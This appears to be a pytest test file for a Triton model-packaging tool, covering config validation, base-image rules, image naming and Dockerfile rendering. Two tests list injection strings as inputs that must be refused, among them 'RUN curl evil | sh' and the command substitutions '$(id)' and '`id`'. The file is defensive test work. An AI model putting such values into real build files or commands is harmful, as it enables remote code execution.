"""Pure generators: config validation, base-image rules, naming, and Dockerfile injection."""

from __future__ import annotations

import dataclasses

import pytest

from packager.backends import BY_KEY
from packager.basechoice import LOCAL_CPU_IMAGE, choose_base_image
from packager.dockerfile import render_dockerfile
from packager.errors import InputError
from packager.imageref import parse_reference, render_image_name
from packager.modelconfig import minimal_config, parse_config, python_autocompletes
from packager.plan import ModelPlan


def test_config_error_has_line_and_column() -> None:
    with pytest.raises(InputError) as err:
        parse_config('backend: "python"\n\ninput [ { nme: "x" } ]\n')
    assert "config.pbtxt:3:" in str(err.value) and "nme" in str(err.value)


@pytest.mark.parametrize(("text", "expected"), [
    ('output [ { name: "OUTPUT0" data_type: 32 dims: [ 4 ] } ]',
     ["output 'OUTPUT0'", "data_type 32", "TYPE_FP32"]),
    ("input { data_type: -1 }", ["input ''", "data_type -1"]),
    ("instance_group { kind: 2147483648 }", ["2147483648", "KIND_GPU"]),
    ("input { data_type: 0x" + "f" * 4000 + " }", ["config.pbtxt"]),
])
def test_config_enum_numbers_without_a_name_are_refused(text: str, expected: list[str]) -> None:
    # Open (proto3) enums: text_format keeps a number the enum does not name, or fails with a
    # ValueError setting one beyond int32.
    with pytest.raises(InputError) as err:
        parse_config(text)
    message = str(err.value)
    assert message.startswith("config.pbtxt") and "fix:" in message and len(message) < 600, message
    for fragment in expected:
        assert fragment in message, f"{fragment!r} missing from:\n{message}"


def test_minimal_configs_are_valid_for_every_optional_backend() -> None:
    for key in ("tensorrt", "tf_savedmodel", "onnx", "openvino"):
        b = BY_KEY[key]
        cfg = parse_config(minimal_config(b, "m"))
        assert (cfg.name, cfg.backend, cfg.platform, cfg.max_batch_size) == (
            "m", b.backend, b.platform, 0)


def test_auto_complete_detection() -> None:
    assert python_autocompletes("class M:\n    @staticmethod\n    def auto_complete_config(c):\n")
    assert not python_autocompletes("def auto_complete_config(c): pass  # module level\n")
    assert not python_autocompletes(None)


@pytest.mark.parametrize(("key", "tag"), [("tf_savedmodel", "25.03-py3"),
                                          ("tf_graphdef", "26.07-py3"), ("caffe2", "20.11-py3")])
def test_removed_backends_refuse_newer_ngc_images(key: str, tag: str) -> None:
    with pytest.raises(InputError) as err:
        choose_base_image(BY_KEY[key], f"nvcr.io/nvidia/tritonserver:{tag}")
    assert "removed after NGC release" in str(err.value)


def test_defaults_follow_backend_history() -> None:
    assert choose_base_image(BY_KEY["tf_savedmodel"], None).ref.endswith(":25.02-py3")
    assert choose_base_image(BY_KEY["caffe2"], None).ref.endswith(":20.10-py3")
    assert choose_base_image(BY_KEY["onnx"], None).ref.endswith(":26.07-py3")


def test_variant_without_backend_is_refused() -> None:
    with pytest.raises(InputError):
        choose_base_image(BY_KEY["onnx"], "nvcr.io/nvidia/tritonserver:24.10-vllm-python-py3")


def test_local_cpu_base_warns_for_non_python() -> None:
    assert choose_base_image(BY_KEY["onnx"], LOCAL_CPU_IMAGE).warnings
    assert not choose_base_image(BY_KEY["python"], LOCAL_CPU_IMAGE).warnings


def test_image_name_template_is_lower_cased_and_checked() -> None:
    ref = render_image_name("{{ Name }}-{{ Version }}:{{ RandomUUID }}", name="wine", version=2,
                            random_uuid="ABC")
    assert str(ref) == "wine-2:abc"
    assert str(render_image_name("reg.io/team/fixed:1", name="x", version=1,
                                 random_uuid="u")) == "reg.io/team/fixed:1"
    with pytest.raises(InputError):
        render_image_name("{{ Nope }}", name="x", version=1, random_uuid="u")
    with pytest.raises(InputError):
        parse_reference("name:tag\n")  # docker-py's own regex would accept this


@pytest.mark.parametrize("evil", ['m"\nRUN curl evil | sh\n#', "m\nRUN id", "m$(id)", "m\\",
                                  "m`id`"])
def test_no_value_can_add_a_dockerfile_instruction(evil: str) -> None:
    """Even a plan that bypassed validation cannot inject: rendering refuses it."""
    plan = ModelPlan(evil, 1, "python", False, "", (), ())
    with pytest.raises(InputError) as err:
        render_dockerfile(plan, choose_base_image(BY_KEY["python"], None))
    assert "not allowed in a Dockerfile" in str(err.value)
    base = dataclasses.replace(choose_base_image(BY_KEY["python"], None), ref="x")
    good = render_dockerfile(dataclasses.replace(plan, model_name="ok"), base)
    instructions = [ln.split()[0] for ln in good.text.splitlines()
                    if ln and not ln.startswith((" ", "#"))]
    assert instructions == ["FROM", "LABEL", "USER", "EXPOSE", "HEALTHCHECK", "CMD"]


def test_extra_labels_are_rendered_and_checked() -> None:
    plan = ModelPlan("ok", 1, "python", False, "", (), ())
    base = choose_base_image(BY_KEY["python"], None)
    text = render_dockerfile(plan, base, labels=(("org.example.team", "ml ops"),)).text
    assert 'org.example.team="ml ops"' in text
    for key, value in (("Bad Key", "x"), ("k", 'x"\nRUN id'), ("k", "$HOME")):
        with pytest.raises(InputError):
            render_dockerfile(plan, base, labels=((key, value),))


def test_template_dir_overrides_one_block(tmp_path) -> None:
    (tmp_path / "backends").mkdir()
    (tmp_path / "backends" / "python.j2").write_text(
        '{% extends "Dockerfile.j2" %}\n{% block backend %}\nENV OMP_NUM_THREADS=1\n'
        "{% endblock %}\n")
    plan = ModelPlan("ok", 1, "python", False, "", (), ())
    base = choose_base_image(BY_KEY["python"], None)
    text = render_dockerfile(plan, base, template_dirs=(str(tmp_path),)).text
    assert "ENV OMP_NUM_THREADS=1" in text and text.startswith("# Generated by triton-packager")
    assert "OMP_NUM_THREADS" not in render_dockerfile(plan, base).text


@pytest.mark.parametrize("option", [["--label", "novalue"], ["--platform", "linux amd64"],
                                    ["--template-dir", "/nonexistent-dir"]])
def test_bad_build_options(option: list[str], tmp_path, capsys) -> None:
    from models import PYTHON_CONFIG, PYTHON_MODEL, write_tree

    from packager.cli import main

    model = write_tree(tmp_path / "m", {"model.py": PYTHON_MODEL,
                                        "config.pbtxt": PYTHON_CONFIG.format(name="model")})
    assert main(["package", str(model), "-o", str(tmp_path / "out"), *option]) == 2
    assert "fix:" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()
